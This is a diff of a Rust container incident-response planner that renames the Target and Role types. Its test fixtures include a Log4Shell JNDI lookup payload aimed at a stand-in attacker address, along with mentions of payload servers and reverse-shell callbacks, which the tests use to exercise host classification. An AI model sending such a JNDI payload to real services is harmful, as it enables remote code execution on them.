@@ -71,7 +71,7 @@ enum Net {
 }
 
 /// A container the plan acts on.
-struct Target {
+struct PlanContainer {
     name: String,
     id: String,
     running: bool,
@@ -87,7 +87,7 @@ struct Target {
     layer_held: bool,
 }
 
-impl Target {
+impl PlanContainer {
     /// The container as the commands name it (quoted): Docker and Podman by name,
     /// containerd and the CRI by id; a pod's container known only from its logs is looked
     /// up by its pod labels when the step runs.
@@ -127,7 +127,7 @@ impl Target {
 }
 
 /// The name of the plan target a finding belongs to (its typed owner), when it is one's.
-fn owner_name(f: &Finding, targets: &[Target]) -> Option<String> {
+fn owner_name(f: &Finding, targets: &[PlanContainer]) -> Option<String> {
     let c = f.owner.as_ref().and_then(crate::model::Owner::as_container)?;
     targets.iter().find(|t| c.same(&t.who())).map(|t| t.name.clone()).or_else(|| Some(c.handle().to_string()))
 }
@@ -164,7 +164,7 @@ pub fn plan(report: &Evidence, findings: &[Finding], opts: &PlanOptions) -> Vec<
         }
     };
     // What the verdict says of it, said first in its steps' why.
-    let side = |t: &Target| -> String {
+    let side = |t: &PlanContainer| -> String {
         match &t.verdict {
             Some(("attacker-side", why)) => format!(
                 "{} is attacker-side ({}): the attacker's own container, kept as evidence, not a victim to restore; ",
@@ -184,7 +184,8 @@ pub fn plan(report: &Evidence, findings: &[Finding], opts: &PlanOptions) -> Vec<
 
     // 1. Record the veth (nsenter needs the PID, which the runtime may not answer later),
     // then freeze.
-    let with_veth: Vec<&Target> = targets.iter().filter(|t| t.running && t.net == Net::Bridge).collect();
+    let with_veth: Vec<&PlanContainer> =
+        targets.iter().filter(|t| t.running && t.net == Net::Bridge).collect();
     for t in &with_veth {
         let f = veth::Files::of(&repo_name(&t.name));
         steps.push(ResponseStep {
@@ -362,7 +363,7 @@ pub fn plan(report: &Evidence, findings: &[Finding], opts: &PlanOptions) -> Vec<
 }
 
 /// Label the pod, isolate it with a deny-all NetworkPolicy, cordon its node.
-fn quarantine(t: &Target, ns: &str, pod: &str) -> ResponseStep {
+fn quarantine(t: &PlanContainer, ns: &str, pod: &str) -> ResponseStep {
     let policy = format!(
         "{{\"apiVersion\":\"networking.k8s.io/v1\",\"kind\":\"NetworkPolicy\",\"metadata\":{{\"name\":\"ctriage-quarantine\"}},\"spec\":{{\"podSelector\":{{\"matchLabels\":{{\"{QUARANTINE_LABEL}\":\"true\"}}}},\"policyTypes\":[\"Ingress\",\"Egress\"]}}}}"
     );
@@ -382,7 +383,7 @@ fn quarantine(t: &Target, ns: &str, pod: &str) -> ResponseStep {
 
 /// The captures a container still needs: for an inconclusive one, everything a judgement
 /// needs; otherwise what the bundle holds none of.
-fn capture(t: &Target, have: &BTreeSet<ArtifactKind>) -> Option<ResponseStep> {
+fn capture(t: &PlanContainer, have: &BTreeSet<ArtifactKind>) -> Option<ResponseStep> {
     let stem = repo_name(&t.name);
     let h = t.h();
     let rt = &t.runtime;
@@ -435,7 +436,7 @@ fn capture(t: &Target, have: &BTreeSet<ArtifactKind>) -> Option<ResponseStep> {
 
 fn finding_steps(
     steps: &mut Vec<ResponseStep>,
-    targets: &[Target],
+    targets: &[PlanContainer],
     findings: &[Finding],
     report: &Evidence,
     opts: &PlanOptions,
@@ -444,7 +445,7 @@ fn finding_steps(
     let owner = |f: &Finding| owner_name(f, targets).unwrap_or_default();
     let target = |name: &str| targets.iter().find(|t| t.name == name);
     // Secrets and tokens of the attacker's own container are not ours to rotate.
-    let ours = |f: &Finding| !target(&owner(f)).is_some_and(Target::attacker_side);
+    let ours = |f: &Finding| !target(&owner(f)).is_some_and(PlanContainer::attacker_side);
     // Every runtime the plan acts through (Docker when it names none).
     let mut runtimes: Vec<&Runtime> = targets.iter().map(|t| &t.runtime).collect();
     runtimes.sort();
@@ -676,7 +677,7 @@ fn block_steps(steps: &mut Vec<ResponseStep>, report: &Evidence, opts: &PlanOpti
 
 /// The containers to act on: from container records, else from ps listings, else from a
 /// Kubernetes pod's CRI logs; sorted by name.
-fn targets(report: &Evidence, story: &Story) -> Vec<Target> {
+fn targets(report: &Evidence, story: &Story) -> Vec<PlanContainer> {
     let verdict_of = |who: &ContainerRef| -> Option<(&'static str, String)> {
         story
             .verdicts
@@ -699,7 +700,7 @@ fn targets(report: &Evidence, story: &Story) -> Vec<Target> {
         .filter(|c| c.upper_dir.is_some())
         .map(|c| c.id.as_str())
         .collect();
-    let mut out: BTreeMap<String, Target> = BTreeMap::new();
+    let mut out: BTreeMap<String, PlanContainer> = BTreeMap::new();
     for c in &report.containers {
         let h = c.host_config.as_ref();
         let mode = h.and_then(|h| h.network_mode.as_deref()).unwrap_or("");
@@ -715,7 +716,7 @@ fn targets(report: &Evidence, story: &Story) -> Vec<Target> {
             Net::Bridge
         };
         let who = ContainerRef { id: c.id.clone(), name: c.handle().to_string() };
-        out.entry(c.handle().to_string()).or_insert(Target {
+        out.entry(c.handle().to_string()).or_insert(PlanContainer {
             name: c.handle().to_string(),
             id: c.id.clone(),
             running: c.state.running || c.state.paused || c.state.restarting,
@@ -736,7 +737,7 @@ fn targets(report: &Evidence, story: &Story) -> Vec<Target> {
                 _ => Net::Bridge,
             };
             let who = ContainerRef { id: r.container_id.clone(), name: r.handle().to_string() };
-            out.entry(r.handle().to_string()).or_insert(Target {
+            out.entry(r.handle().to_string()).or_insert(PlanContainer {
                 name: r.handle().to_string(),
                 id: r.container_id.clone(),
                 running: r.is_running(),
@@ -760,7 +761,7 @@ fn targets(report: &Evidence, story: &Story) -> Vec<Target> {
                 continue;
             }
             let who = ContainerRef { id: String::new(), name: container.to_string() };
-            out.entry(format!("{ns}/{pod}/{container}")).or_insert(Target {
+            out.entry(format!("{ns}/{pod}/{container}")).or_insert(PlanContainer {
                 name: container.to_string(),
                 id: String::new(),
                 running: true,
@@ -811,7 +812,7 @@ fn secret_names(summary: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::analyze::story::hosts::{Act, Role};
+    use crate::analyze::story::hosts::{Act, HostRole};
     use crate::analyze::story::Verdict;
     use crate::bundle::ArtifactRecord;
     use crate::evidence::{BundleKind, Compression};
@@ -894,7 +895,7 @@ mod tests {
         }
     }
 
-    fn host(value: &str, role: Role, acts: &[Act], why: &str) -> HostRecord {
+    fn host(value: &str, role: HostRole, acts: &[Act], why: &str) -> HostRecord {
         HostRecord {
             value: value.into(),
             kind: if net::ip(value).is_some() { "ip" } else { "domain" },
@@ -944,13 +945,13 @@ mod tests {
         b.story.hosts = vec![
             host(
                 "198.51.100.7",
-                Role::Attacker,
+                HostRole::Attacker,
                 &[Act::SentSucceeded],
                 "sent a JNDI request ${jndi:ldap://198.51.100.7:1389/Exploit}",
             ),
-            host("evil.example.com", Role::Attacker, &[Act::Payload], "served a payload"),
-            host("172.17.0.5", Role::Victim, &[], "IP address of container web"),
-            host("192.0.2.9", Role::Unknown, &[], "named in a log"),
+            host("evil.example.com", HostRole::Attacker, &[Act::Payload], "served a payload"),
+            host("172.17.0.5", HostRole::Victim, &[], "IP address of container web"),
+            host("192.0.2.9", HostRole::Unknown, &[], "named in a log"),
         ];
         let plan = plan(&b, &findings, &no_opts());
         let steps: Vec<&str> = plan.iter().map(|s| s.step.as_str()).collect();
@@ -1241,7 +1242,7 @@ mod tests {
         ];
         b.story.hosts = vec![host(
             "172.17.0.3",
-            Role::Attacker,
+            HostRole::Attacker,
             &[Act::SentSucceeded],
             "sent the exploit (it succeeded)",
         )];
@@ -1286,21 +1287,21 @@ mod tests {
         b.story.hosts = vec![
             host(
                 "10.0.0.5",
-                Role::Attacker,
+                HostRole::Attacker,
                 &[Act::SentUnconfirmed],
                 "sent Command injected in a request (no sign it worked)",
             ),
             host(
                 "192.0.2.10",
-                Role::Attacker,
+                HostRole::Attacker,
                 &[Act::SentSucceeded],
                 "sent OS command injection (it succeeded)",
             ),
-            host("203.0.113.66", Role::Attacker, &[Act::Callback], "named by Reverse shell (callback)"),
-            host("198.51.100.9", Role::Attacker, &[Act::Payload], "named as callback or download server"),
+            host("203.0.113.66", HostRole::Attacker, &[Act::Callback], "named by Reverse shell (callback)"),
+            host("198.51.100.9", HostRole::Attacker, &[Act::Payload], "named as callback or download server"),
             host(
                 "198.51.100.23",
-                Role::Attacker,
+                HostRole::Attacker,
                 &[Act::SentFailed],
                 "sent Log4Shell JNDI lookup (it failed)",
             ),
